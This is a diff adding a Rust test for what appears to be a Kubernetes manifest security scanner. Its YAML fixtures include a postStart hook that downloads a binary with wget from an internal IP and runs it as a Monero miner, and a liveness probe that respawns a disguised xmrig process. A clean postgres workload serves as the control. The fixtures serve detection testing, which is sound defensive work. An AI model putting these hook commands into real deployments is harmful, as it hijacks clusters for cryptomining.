@@ -986,3 +986,115 @@ fn the_fast_yaml_path_agrees_with_the_full_parser() {
     }
     assert!(compared >= 15, "{compared}");
 }
+
+#[test]
+fn lifecycle_hooks_and_exec_probes_are_scanned_on_both_paths() {
+    // a miner started from a postStart hook, one re-spawned by a liveness probe, and a
+    // workload with the usual probes and hooks; read by the fast path and by the full parser
+    let text = r#"apiVersion: apps/v1
+kind: Deployment
+metadata: {name: storefront, namespace: shop}
+spec:
+  selector: {matchLabels: {app: storefront}}
+  template:
+    metadata: {labels: {app: storefront}}
+    spec:
+      containers:
+        - name: nginx
+          image: nginx:1.27-alpine
+          lifecycle:
+            postStart:
+              exec:
+                command: ["/bin/sh", "-c", "wget -qO /tmp/.c http://10.1.2.3/n && chmod +x /tmp/.c && nohup /tmp/.c -o pool.supportxmr.com:443 --tls &"]
+---
+apiVersion: apps/v1
+kind: StatefulSet
+metadata: {name: zookeeper, namespace: streaming}
+spec:
+  serviceName: zk
+  selector: {matchLabels: {app: zk}}
+  template:
+    metadata: {labels: {app: zk}}
+    spec:
+      containers:
+        - name: zookeeper
+          image: zookeeper:3.9
+          livenessProbe:
+            exec:
+              command: ["sh", "-c", "pgrep -f zkjvm || (cp /usr/bin/xmrig /tmp/zkjvm; nohup /tmp/zkjvm -B &); echo ruok | nc 127.0.0.1 2181"]
+---
+apiVersion: apps/v1
+kind: Deployment
+metadata: {name: db, namespace: shop}
+spec:
+  selector: {matchLabels: {app: db}}
+  template:
+    metadata: {labels: {app: db}}
+    spec:
+      containers:
+        - name: postgres
+          image: postgres:16
+          readinessProbe:
+            exec: {command: ["pg_isready", "-U", "postgres"]}
+          startupProbe:
+            exec: {command: ["sh", "-c", "test -f /var/lib/postgresql/data/PG_VERSION"]}
+          lifecycle:
+            preStop:
+              exec: {command: ["/bin/sh", "-c", "pg_ctl stop -m fast"]}
+"#;
+    let dir = tempfile::tempdir().expect("tempdir");
+    let fast = dir.path().join("fast.yaml");
+    let full = dir.path().join("full.yaml");
+    std::fs::write(&fast, text).expect("write");
+    std::fs::write(
+        &full,
+        format!("{}\nxAnchored: &anchor 1\n", text.trim_end()),
+    )
+    .expect("write");
+    let mut keys = Vec::new();
+    for path in [&fast, &full] {
+        let out = scan(&[&path.to_string_lossy(), "--format", "json"]);
+        let r = out.json();
+        assert_contract(&r);
+        let by = |name: &str| -> Vec<&Value> {
+            findings(&r).iter().filter(|f| f["name"] == name).collect()
+        };
+        let hook = by("storefront");
+        assert!(
+            hook.iter().any(|f| f["severity"] == "critical"
+                && f["field"]
+                    == "spec.template.spec.containers[0].lifecycle.postStart.exec.command[2]"
+                && f["line"] == 15),
+            "{hook:#?}"
+        );
+        let probe = by("zookeeper");
+        assert!(
+            probe
+                .iter()
+                .any(|f| f["rule"] == "builtin/miner-binary/xmrig"
+                    && f["field"]
+                        == "spec.template.spec.containers[0].livenessProbe.exec.command[2]"),
+            "{probe:#?}"
+        );
+        let db = by("db");
+        assert!(
+            db.iter()
+                .all(|f| f["severity"] == "low" || f["severity"] == "info"),
+            "{db:#?}"
+        );
+        assert_eq!(out.code, 1);
+        keys.push(
+            findings(&r)
+                .iter()
+                .map(|f| {
+                    (
+                        f["rule"].to_string(),
+                        f["field"].to_string(),
+                        f["line"].to_string(),
+                    )
+                })
+                .collect::<Vec<_>>(),
+        );
+    }
+    assert_eq!(keys[0], keys[1]);
+}
